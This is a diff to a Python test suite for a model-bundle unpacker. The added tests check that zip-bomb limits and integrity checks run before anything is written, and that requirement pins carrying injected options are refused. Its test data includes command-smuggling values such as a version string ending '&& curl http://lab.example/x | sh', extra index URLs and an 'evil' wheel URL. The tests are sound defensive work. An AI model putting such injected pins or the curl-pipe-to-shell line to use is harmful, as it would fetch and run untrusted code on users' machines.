@@ -1,5 +1,6 @@
 import hashlib
 import json
+import re
 import stat
 import subprocess
 import sys
@@ -155,6 +156,7 @@ def test_unpack_checks_model_records_inside_the_archive(bundle, tmp_path):
     entries = {name: (bundle / name).read_bytes() for name in SHIPPED}
     with pytest.raises(CheckpointIntegrityError, match=r"model\.pt: SHA-256 mismatch"):
         unpack_bundle(_zip(tmp_path / "swapped.zip", entries), tmp_path / "dest")
+    assert not (tmp_path / "dest").exists(), "checked before DEST is created"
 
 
 @pytest.mark.slow
@@ -175,3 +177,53 @@ def test_cli_round_trip_audits_and_prints_what_to_install(bundle, tmp_path, caps
     with pytest.raises(SystemExit) as exited:
         unpack(str(doctored), str(tmp_path / "d2"))
     assert exited.value.code == 1 and "path traversal refused" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize(
+    ("limit", "message"),
+    [
+        ({"max_ratio": 200}, "unpacks to .* times its packed size, more than max_ratio=200"),
+        ({"max_files": 3}, "files, more than max_files=3"),
+        ({"max_file_bytes": 1 << 20}, "'docs/zeros.bin': 4,194,304 bytes unpacked, more than max_file_bytes=1,048,576"),
+        ({"max_total_bytes": 1 << 20}, "bytes unpacked in all, more than max_total_bytes=1,048,576"),
+    ],
+)
+def test_unpack_limits_size_count_and_ratio_before_writing_anything(limit, message, bundle, tmp_path, capsys):
+    (bundle / "docs" / "zeros.bin").write_bytes(bytes(4 << 20))  # 4 MiB that deflate packs about 1000:1
+    pack_bundle(bundle, tmp_path / "bomb.zip")
+    limits = {"max_ratio": 10_000, **limit}
+    with pytest.raises(SystemExit):
+        unpack(str(tmp_path / "bomb.zip"), str(tmp_path / "dest"), **limits)
+    assert re.search(message, capsys.readouterr().out)
+    assert not (tmp_path / "dest").exists() and list(tmp_path.glob(".unpack-*")) == []
+
+
+@pytest.mark.parametrize(
+    ("where", "name", "version"),
+    [
+        ("metadata", "monai-ext", "0.1.0 --index-url http://lab.example/simple"),
+        ("metadata", "tqdm", "4.66.0 && curl http://lab.example/x | sh"),
+        ("metadata", "evil @ http://lab.example/evil.whl", "1"),
+        ("metadata", "tqdm; python_version > '3'", "1"),
+        ("manifest", "torch", "2.13.0 --extra-index-url http://lab.example"),
+    ],
+)
+def test_unpack_prints_only_plain_pep508_pins_and_refuses_the_rest(where, name, version, bundle, tmp_path, capsys):
+    if where == "metadata":
+        meta = {"version": "0.1.0", "required_packages_version": {name: version}}
+        (bundle / "configs" / "metadata.json").write_text(json.dumps(meta))
+    pack_bundle(bundle, tmp_path / "b.zip")
+    if where == "manifest":
+        with zipfile.ZipFile(tmp_path / "b.zip") as archive:
+            entries = {info.filename: archive.read(info) for info in archive.infolist()}
+        manifest = json.loads(entries[PACKAGE_MANIFEST])
+        manifest["versions"][name] = version
+        entries[PACKAGE_MANIFEST] = json.dumps(manifest).encode()
+        with zipfile.ZipFile(tmp_path / "b.zip", "w") as archive:
+            for entry, data in entries.items():
+                archive.writestr(entry, data)
+    with pytest.raises(SystemExit):
+        unpack(str(tmp_path / "b.zip"), str(tmp_path / "dest"))
+    out = capsys.readouterr().out
+    assert "not a PEP 508 requirement" in out or "not a plain name==version pin" in out
+    assert "pip install" not in out and not (tmp_path / "dest").exists()
